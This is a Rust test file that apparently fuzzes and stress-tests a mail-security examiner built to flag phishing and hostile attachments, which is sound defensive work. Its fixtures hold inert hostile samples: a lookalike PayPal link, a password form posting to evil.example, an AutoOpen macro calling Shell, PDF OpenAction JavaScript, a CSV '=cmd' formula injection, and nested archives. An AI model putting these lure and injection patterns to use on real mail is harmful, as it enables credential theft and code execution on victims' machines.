//! Hostile messages: whatever comes, the examination ends, soon, and without a panic.

use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use proptest::prelude::{Just, Strategy, prop_oneof};

use super::*;
use crate::contents::made::{self, Boxes, boxed};

fn examiner() -> Examiner {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../../content/mail/");
    let read = |name: &str| std::fs::read_to_string(format!("{root}{name}")).expect("content");
    let lists = Lists::parse(&read("lists.yaml")).expect("lists");
    let scorecard = Scorecard::parse(&read("scorecard.yaml")).expect("a scorecard");
    Examiner::new(Setting::default(), lists, scorecard)
}

/// A message with a page and one attachment.
fn message(name: &str, content: &[u8]) -> Vec<u8> {
    format!(
        "From: \"Bank\" <a@news.example>\r\nTo: b@clinic.example\r\nSubject: =?utf-8?q?Hi?=\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n\
         <p>Hello <a href='https://paypal.com.evil.example/?u=https%3A%2F%2Fa.example#b@clinic.example'>paypal.com</a>\
         <form action='https://evil.example'><input type=password></form><script>eval(atob('x'))</script>\r\n--x\r\n\
         Content-Type: application/octet-stream; name=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment\r\n\r\n{}\r\n--x--\r\n",
        STANDARD.encode(content)
    )
    .into_bytes()
}

/// Files of all kinds that are opened.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    let macros =
        made::macros(b"Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nShell(\"x\")\r\nEnd Sub");
    vec![
        ("a.doc", macros.clone()),
        ("a.xls", made::compound(&[("/Workbook", &made::workbook(0x85, &[0, 0, 0, 0, 0, 1]))])),
        ("a.docm", boxed(&[("[Content_Types].xml", b"x"), ("word/vbaProject.bin", &macros)])),
        ("a.zip", boxed(&[("b.zip", &boxed(&[("c.js", b"x")])), ("d.png", &made::picture())])),
        ("a.pdf", made::pdf(made::Pixels {
                bits: 8,
                numbers: 1,
                is_indexed: false,
                has_predictor: true,
            })),
        ("b.pdf", b"%PDF-1.7\n1 0 obj <</S/URI/URI(https://evil.example/\\051)/OpenAction<</JS<41>>>>> endobj".to_vec()),
        ("a.png", made::picture()),
        ("a.one", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0MZ".to_vec()),
        ("a.rar", b"Rar!\x1a\x07\x01\x00\0\0\0\0\x03\x01\0\0\0\0\0\0\x0f\x02\x03\0\x03\0\x09\0\0\0\x05b.scr".to_vec()),
        ("a.ics", b"BEGIN:VCALENDAR\r\nURL:https://a.example\r\nX-ALT-DESC:<a href=//b.example>x</a>\r\n".to_vec()),
        ("a.html", b"<html><meta http-equiv=refresh content='0;url=//a.example'><script>location.href='x'</script>".to_vec()),
        ("a.eml", b"From: a@b.example\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\nhttps://a.example\r\n--y--".to_vec()),
        ("a.csv", b"a,=cmd|' /c x'!A1\n".to_vec()),
    ]
}

/// Bytes changed, cut out and doubled.
fn mutated(whole: &[u8], changes: &[(usize, u8, u8)]) -> Vec<u8> {
    let mut bytes = whole.to_vec();
    for (at, what, value) in changes {
        if bytes.is_empty() {
            break;
        }
        let at = at % bytes.len();
        let end = (at + usize::from(*value)).min(bytes.len());
        match what % 4 {
            0 | 1 => bytes[at] = *value,
            2 => drop(bytes.drain(at..end)),
            _ => {
                let part = bytes[at..end].to_vec();
                bytes.splice(at..at, part);
            }
        }
    }
    bytes
}

fn changes() -> impl Strategy<Value = Vec<(usize, u8, u8)>> {
    let what = prop_oneof![Just(0_u8), Just(1), Just(2), Just(3)];
    proptest::collection::vec((0..1_000_000_usize, what, proptest::num::u8::ANY), 1..12)
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(40))]
    #[test]
    fn changed_files_and_messages_are_examined(file in changes(), whole in changes()) {
        static EXAMINER: std::sync::LazyLock<Examiner> = std::sync::LazyLock::new(examiner);
        for (name, content) in files() {
            let _ = EXAMINER.examine(&message(name, &mutated(&content, &file)), &Beside::opened_by(&Boxes));
            let _ = EXAMINER.examine(&mutated(&message(name, &content), &whole), &Beside::opened_by(&Boxes));
        }
    }
}

/// Builds without optimisation, on a machine that others use, take longer than what users run. What has no bound takes
/// hours.
const SLOW: u32 = 120;

fn check(what: &str, raw: &[u8], seconds: u32) {
    let start = Instant::now();
    let _ = examiner().examine(raw, &Beside::opened_by(&Boxes));
    let took = start.elapsed();
    assert!(
        took < Duration::from_secs(1) * seconds * SLOW,
        "{what}: {took:?}"
    );
}

#[test]
fn floods_and_depths_end() {
    let head = "From: a@b.example\r\nContent-Type: text/html\r\n\r\n";
    let nested = "<div><a href=//a.example><span style='display:none'>".repeat(20_000);
    check("deep page", format!("{head}{nested}").as_bytes(), 1);
    check(
        "headers",
        format!(
            "From: a@b.example\r\n{}\r\nhello",
            "X-A: b\r\n".repeat(100_000)
        )
        .as_bytes(),
        1,
    );
    let links: String = (0..5_000)
        .map(|at| format!("<a href='https://h{at}.example/?u=https://x{at}.example'>l</a> "))
        .collect();
    check("links", format!("{head}{links}").as_bytes(), 1);
    let words = "password password pin pw ".repeat(20_000);
    check(
        "words",
        format!("From: a@b.example\r\n\r\n{words}").as_bytes(),
        1,
    );
    let mut inner = b"From: a@b.example\r\n\r\nhello".to_vec();
    for _ in 0..40 {
        inner = [
            b"From: a@b.example\r\nContent-Type: message/rfc822\r\n\r\n".as_slice(),
            &inner,
        ]
        .concat();
    }
    check("messages", &inner, 1);
    let mut zip = boxed(&[("a.exe", b"MZ")]);
    for _ in 0..8 {
        zip = boxed(&[("a.zip", &zip), ("b.zip", &zip)]);
        zip.truncate(200_000);
    }
    check("archives", &message("a.zip", &zip), 1);
    let names = "/URI (https://a.example/) /JS /AA << >> stream\n".repeat(50_000);
    check(
        "names",
        &message("a.pdf", format!("%PDF-1.7\n{names}").as_bytes()),
        1,
    );
    let streams = "1 0 obj <</Type/ObjStm/FlateDecode>>\nstream\nx\nendstream\n".repeat(20_000);
    check(
        "streams",
        &message("a.pdf", format!("%PDF-1.7\n{streams}").as_bytes()),
        1,
    );
}

#[test]
fn a_picture_that_claims_a_hundred_million_points_is_left_alone() {
    let mut png = made::picture();
    png[16..20].copy_from_slice(&10_000_u32.to_be_bytes());
    png[20..24].copy_from_slice(&10_000_u32.to_be_bytes());
    let found = examiner()
        .examine(&message("a.png", &png), &Beside::opened_by(&Boxes))
        .expect("a message");
    assert!(!found.signals.has("destination.qr_code"));
}

#[test]
fn a_message_of_fifty_megabytes_is_examined() {
    let filler: Vec<u8> = (0..36_000_000_u32)
        .map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let found = examiner()
        .examine(&message("a.bin", &filler), &Beside::opened_by(&Boxes))
        .expect("a message");
    assert_eq!(found.anatomy.attachments[0].size, 36_000_000);
    assert!(found.signals.has("destination.domain_in_host"));
}

#[test]
fn what_has_no_header_of_mail_is_no_message() {
    let examiner = examiner();
    for (bytes, is_mail) in [
        (&b""[..], false),
        (b"\x00\xff\x13noise\r\nmore: of it\r\n\r\nx", false),
        (b"Dear reader,\r\nthis is a text.\r\n", false),
        (b"Subject: x\r\n\r\nHello\r\n", true),
        (b"Received: from a.example\r\nFrom: a@b.exa", true),
    ] {
        let found = examiner.examine(bytes, &Beside::opened_by(&Boxes));
        assert_eq!(found.is_ok(), is_mail, "{}", bytes.escape_ascii());
    }
}
